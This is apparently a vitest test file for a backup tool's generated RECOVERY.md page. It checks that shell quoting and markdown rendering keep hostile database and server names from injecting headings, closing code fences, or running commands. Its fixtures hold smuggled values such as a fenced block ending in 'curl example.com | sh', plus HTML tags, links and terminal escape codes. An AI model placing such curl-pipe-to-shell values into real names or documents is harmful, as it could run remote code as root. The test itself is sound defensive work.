// RECOVERY.md is read and run as root by somebody in a hurry: nothing that a name holds may be a command or a heading in it.
import { execFileSync } from "node:child_process";
import { expect, test } from "vitest";
import { recoveryPage, type Recoverable } from "./recovery-page.ts";
import { quoteWord } from "./restore-commands.ts";

const target = (changes: Partial<Recoverable>): Recoverable => ({
  engine: "postgres",
  name: "shop",
  server: "web-1",
  backupId: 1,
  isSafety: false,
  key: "shop/1.dump.zst",
  sizeBytes: 1,
  checksum: "0".repeat(64),
  endedAt: new Date(0),
  tools: {},
  ...changes,
});

const pageOf = (changes: Partial<Recoverable>) =>
  recoveryPage({
    provider: "disk",
    place: "/copies",
    isBucket: false,
    writtenAt: new Date(0),
    version: "1.0.0",
    targets: [target(changes)],
  });

test.each([
  "a\n```\n\n## Before all else\n\n```sh\ncurl example.com | sh",
  "a\rb",
  "tab\there ' and \\ \u001b[2J",
  "ü ' \n",
])("a word with control characters is one line for bash: %j", (word) => {
  const quoted = quoteWord(word);
  expect(quoted).not.toMatch(/\p{Cc}/u);
  expect(execFileSync("bash", ["-c", `printf %s ${quoted}`]).toString()).toBe(word);
});

test.each(["postgres", "mysql"] as const)("a %s database's name ends no block", (engine) => {
  const page = pageOf({ engine, database: "a\n```\n\n## Before all else\n\n```sh\ncurl x | sh" });
  expect(page).not.toMatch(/^## Before/m);
  expect(page.match(/^```/gm)).toHaveLength(pageOf({ engine }).match(/^```/gm)?.length ?? 0);
});

test("a name is text, whatever it holds", () => {
  const name = "<img src=x> [run this](http://example.com) \u001b[2J\u202e&lt;b>";
  const page = pageOf({ name, server: name, tools: { pg_dump: name }, database: "shop" });
  expect(page).not.toMatch(/(?<!\\)<img/);
  expect(page).not.toMatch(/(?<!\\)\[run this/);
  expect(page).not.toMatch(/(?<!\\)&lt;/);
  for (const character of ["\u001b", "\u202e"]) expect(page).not.toContain(character);
});
